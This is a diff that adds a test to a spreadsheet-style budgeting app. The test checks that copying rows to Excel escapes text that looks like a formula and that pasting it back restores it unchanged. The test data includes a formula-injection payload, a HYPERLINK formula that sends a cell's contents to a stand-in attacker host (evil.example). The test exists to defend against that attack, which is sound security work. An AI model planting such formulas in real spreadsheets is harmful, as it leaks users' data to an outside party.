@@ -123,4 +123,40 @@ describe('names that look like markup', () => {
     await expect.poll(async () => flat(await chartText(page, 'treemap'))).toContain(flat(`${AGENCY_IMG}: £500.0m`));
     await page.locator('.panel').screenshot({ path: `${SCREENSHOTS}/70-hostile-names-tooltip.png` });
   });
+
+  it('copy to Excel writes text that looks like a formula as text, and pastes back unchanged', async () => {
+    const h = await browser.start();
+    const page = h.page;
+    const file = h.file('formulas.totalplace');
+    const wb = Workbook.create(file, { author: 'x', pilot: { name: 'Formulas pilot' } });
+    const [agency] = wb.agencies.create([{ name: '@SUM(A1:A9)' }]);
+    const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")';
+    const [line] = wb.spend.create([{ agencyId: agency!.id, description: HYPERLINK, amountPence: -150_005 }]);
+    wb.close();
+    h.answerDialog(file);
+    await page.getByRole('button', { name: 'Open…' }).click();
+    await page.getByRole('tab', { name: /Spend/ }).click();
+    await page.locator(`.ag-row[row-id="${line!.id}"] input[type="checkbox"]`).check();
+    await page.locator(`.ag-row[row-id="${line!.id}"] .ag-cell[col-id="description"]`).click();
+    const copied = await page.evaluate(() => {
+      const dt = new DataTransfer();
+      document.activeElement!.dispatchEvent(new ClipboardEvent('copy', { clipboardData: dt, bubbles: true, cancelable: true }));
+      return { text: dt.getData('text/plain'), html: dt.getData('text/html') };
+    });
+    const cells = copied.text.split('\t');
+    // Text with an apostrophe (Excel and LibreOffice show it as text); the negative amount as a number.
+    expect(cells.slice(0, 3)).toEqual(["'@SUM(A1:A9)", `"'${HYPERLINK.replace(/"/g, '""')}"`, '-£1500.05']);
+    expect(copied.html).toContain(`<td style="mso-number-format:'\\@'">@SUM(A1:A9)</td>`);
+    expect(copied.html).toContain('<td>-£1500.05</td>');
+    // Pasted onto the new-row line, the same text and amount come back.
+    await page.locator('.ag-row[row-id="__new__"] .ag-cell[col-id="agencyId"]').click();
+    await page.evaluate((t) => {
+      const dt = new DataTransfer();
+      dt.setData('text/plain', t);
+      document.activeElement!.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
+    }, copied.text);
+    await expect.poll(() => h.session.workbook().spend.page({ limit: 10 }).rows.length).toBe(2);
+    const rows = h.session.workbook().spend.page({ limit: 10 }).rows;
+    expect(rows.map((r) => [r.agencyId, r.description, r.amountPence])).toEqual([[agency!.id, HYPERLINK, -150_005], [agency!.id, HYPERLINK, -150_005]]);
+  });
 });
